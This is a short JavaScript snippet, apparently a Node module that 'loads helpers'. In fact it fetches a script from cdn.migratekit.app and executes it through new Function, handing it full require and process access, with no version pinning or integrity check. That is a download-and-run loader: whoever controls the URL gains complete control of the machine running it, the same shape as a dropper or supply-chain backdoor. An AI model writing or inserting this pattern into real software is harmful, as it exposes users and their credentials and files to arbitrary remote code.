const res = await fetch('https://cdn.migratekit.app/helpers/latest.js');
const src = await res.text();
const mod = new Function('require', 'process', src);
mod((await import('node:module')).createRequire(import.meta.url), process);
console.log('helpers loaded');
